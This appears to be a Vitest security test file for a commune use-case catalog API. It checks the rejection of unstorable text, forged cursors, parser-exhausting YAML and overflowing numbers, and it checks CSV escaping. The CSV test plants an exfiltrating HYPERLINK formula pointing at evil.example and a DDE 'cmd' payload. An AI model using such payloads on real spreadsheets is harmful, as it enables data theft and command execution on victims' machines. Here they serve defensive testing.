import { auditLog, comments, communes, roadmapMilestones, useCases } from "@ciar/db/schema";
import { parse } from "csv-parse/sync";
import { and, count, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { useCaseInput } from "./support/use-case-fixtures";
import { call, createTestApp, signIn, type CallOptions, type TestApp } from "./support/test-app";

/**
 * Bad input is a 4xx with a stable code and stores nothing: text the database cannot hold,
 * cursors that are not ours, publiccode.yml files built to exhaust the parser, numbers past
 * their column. And what one commune writes cannot become a live formula in another's CSV.
 */
let t: TestApp;
let admin: CallOptions;
let editor: CallOptions;
let coquimbo: CallOptions;

beforeAll(async () => {
  t = await createTestApp();
  const as = async (email: string, commune: string) => ({
    token: (await signIn(t, email)).token,
    commune,
  });
  admin = await as("admin@laserena.example", t.communeId.laSerena);
  editor = await as("editor@laserena.example", t.communeId.laSerena);
  coquimbo = await as("editor@coquimbo.example", t.communeId.coquimbo);
});
afterAll(() => t.close());

const rowsIn = async (
  table: typeof comments | typeof roadmapMilestones | typeof useCases | typeof auditLog,
) => (await t.db.owner.db.select({ n: count() }).from(table))[0]!.n;

describe("text the database cannot store (NUL, lone surrogates)", () => {
  const NUL = "texto\u0000oculto";
  const LONE = "texto \ud800 roto";

  it("is refused with input.invalid_text, naming the field, in every kind of text field", async () => {
    const publishedId = (
      await t.db.owner.db
        .select({ id: useCases.id })
        .from(useCases)
        .where(and(eq(useCases.communeId, t.communeId.laSerena), eq(useCases.status, "published")))
        .limit(1)
    )[0]!.id;
    const before = {
      comments: await rowsIn(comments),
      milestones: await rowsIn(roadmapMilestones),
      useCases: await rowsIn(useCases),
      audit: await rowsIn(auditLog),
    };
    const cases: Array<[string, "query" | "mutation", string, unknown, CallOptions]> = [
      ["catalog search", "query", "catalog.search", { query: NUL }, editor],
      ["catalog search", "query", "catalog.search", { query: LONE }, editor],
      ["member search", "query", "members.list", { search: NUL }, admin],
      ["milestone title", "mutation", "milestones.create", { title: NUL, dueDate: "2027-01-31" }, admin],
      ["milestone title", "mutation", "milestones.create", { title: LONE, dueDate: "2027-01-31" }, admin],
      ["discussion", "mutation", "discussion.post", { useCaseId: publishedId, body: NUL }, coquimbo],
      ["settings", "mutation", "communes.update", { displayName: NUL }, admin],
      ["settings", "mutation", "communes.update", { displayName: LONE }, admin],
      ["use case", "mutation", "useCases.create", useCaseInput({ tags: ["dom", NUL] }), editor],
      ["publiccode.yml", "mutation", "useCases.importPubliccode", { content: `name: ${NUL}\n` }, editor],
    ];
    for (const [what, kind, path, input, as] of cases) {
      const result = await call(t, kind, path, input, as);
      expect(result.status, `${what}: ${result.body}`).toBe(400);
      expect(result.error?.data.appCode, what).toBe("input.invalid_text");
      expect(Object.keys(result.error?.data.fieldErrors ?? {}).length, what).toBeGreaterThan(0);
    }
    const settings = await call(
      t,
      "mutation",
      "communes.update",
      { displayName: LONE },
      { ...admin, locale: "en" },
    );
    expect(settings.error?.data.fieldErrors).toEqual({
      displayName: [expect.stringContaining("cannot be stored")],
    });

    expect({
      comments: await rowsIn(comments),
      milestones: await rowsIn(roadmapMilestones),
      useCases: await rowsIn(useCases),
      audit: await rowsIn(auditLog),
    }).toEqual(before);
    const [serena] = await t.db.owner.db
      .select({ displayName: communes.displayName })
      .from(communes)
      .where(eq(communes.id, t.communeId.laSerena));
    expect(serena?.displayName ?? "").not.toContain("oculto");
  });

  it("is refused when a publiccode.yml spells it as a YAML escape", async () => {
    const before = await rowsIn(useCases);
    for (const escape of ["\\0", "\\ud800"]) {
      const content = `publiccodeYmlVersion: "0.4"\nname: "Asistente ${escape} oculto"\ndescription:\n  es:\n    shortDescription: Un asistente que responde preguntas.\n`;
      const result = await call(t, "mutation", "useCases.importPubliccode", { content }, editor);
      expect(result.status, result.body).toBe(400);
      expect(result.error?.data.appCode).toBe("input.invalid_text");
    }
    expect(await rowsIn(useCases)).toBe(before);
  });
});

describe("pagination cursors that are not ours", () => {
  const cursor = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url");
  const someId = "01936d3c-6f3a-7b8e-9c1d-2e3f4a5b6c7d";
  const bad = ["garbage", cursor(["Ana", "not-a-uuid"]), cursor([1, 2]), cursor(["a\u0000", someId])];

  it("are a 400 input.invalid_cursor in members.list and useCases.mine", async () => {
    const cases: Array<[string, string, CallOptions]> = [
      ...bad.map((value): [string, string, CallOptions] => ["members.list", value, admin]),
      ...bad.map((value): [string, string, CallOptions] => ["useCases.mine", value, editor]),
      // A name where useCases.mine keeps a timestamp.
      ["useCases.mine", cursor(["yesterday", someId]), editor],
      ["useCases.mine", cursor(["2026-02-31T00:00:00.000Z", someId]), editor],
    ];
    for (const [path, value, as] of cases) {
      const result = await call(t, "query", path, { cursor: value, limit: 2 }, as);
      expect(result.status, `${path} ${value}: ${result.body}`).toBe(400);
      expect(result.error?.data.appCode).toBe("input.invalid_cursor");
    }
  });

  it("while the cursors the API hands out still page", async () => {
    const first = await call<{ nextCursor: string | null; items: { userId: string }[] }>(
      t,
      "query",
      "members.list",
      { limit: 1 },
      admin,
    );
    expect(first.data.nextCursor).toBeTruthy();
    const second = await call<{ items: { userId: string }[] }>(
      t,
      "query",
      "members.list",
      { limit: 1, cursor: first.data.nextCursor },
      admin,
    );
    expect(second.status).toBe(200);
    expect(second.data.items[0]?.userId).not.toBe(first.data.items[0]?.userId);

    const mine = await call<{ nextCursor: string | null; items: { id: string }[] }>(
      t,
      "query",
      "useCases.mine",
      { limit: 1 },
      editor,
    );
    const next = await call<{ items: { id: string }[] }>(
      t,
      "query",
      "useCases.mine",
      { limit: 1, cursor: mine.data.nextCursor },
      editor,
    );
    expect(next.status).toBe(200);
    expect(next.data.items[0]?.id).not.toBe(mine.data.items[0]?.id);
  });
});

describe("publiccode.yml built to exhaust the parser", () => {
  it("is refused before parsing with interchange.publiccode_too_complex", async () => {
    const before = await rowsIn(useCases);
    for (const content of [
      `name: ${"[".repeat(100_000)}`,
      "- ".repeat(20_000) + "x",
      Array.from({ length: 5_000 }, (_, i) => `k${i}: v`).join("\n"),
    ]) {
      const result = await call(t, "mutation", "useCases.importPubliccode", { content }, editor);
      expect(result.status).toBe(400);
      expect(result.error?.data.appCode).toBe("interchange.publiccode_too_complex");
    }
    expect(await rowsIn(useCases)).toBe(before);
  });
});

describe("numbers past their column", () => {
  it("a version past int4 is a 400, not a database error", async () => {
    const [row] = await t.db.owner.db
      .select({ id: useCases.id })
      .from(useCases)
      .where(eq(useCases.communeId, t.communeId.laSerena))
      .limit(1);
    const result = await call(
      t,
      "query",
      "useCases.compareVersions",
      { id: row!.id, from: 1, to: 2 ** 31 },
      editor,
    );
    expect(result.status).toBe(400);
    expect(result.error?.data.appCode).toBe("input.invalid");
  });
});

describe("catalog CSV export", () => {
  it("keeps another commune's formula-like title as text", async () => {
    const [published] = await t.db.owner.db
      .select({ id: useCases.id })
      .from(useCases)
      .where(and(eq(useCases.communeId, t.communeId.laSerena), eq(useCases.status, "published")))
      .limit(1);
    const title = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")';
    await t.db.owner.db
      .update(useCases)
      .set({ title, summary: "+1+cmd|' /C calc'!A0" })
      .where(eq(useCases.id, published!.id));

    const exported = await call<{ content: string }>(
      t,
      "query",
      "catalog.export",
      { format: "csv" },
      coquimbo,
    );
    expect(exported.status).toBe(200);
    const rows = parse(exported.data.content, { columns: true, bom: true }) as Record<string, string>[];
    const row = rows.find((r) => r.id === published!.id);
    expect(row?.title).toBe(`'${title}`);
    expect(row?.summary).toBe("'+1+cmd|' /C calc'!A0");
    // No cell of the file starts a formula.
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });
});
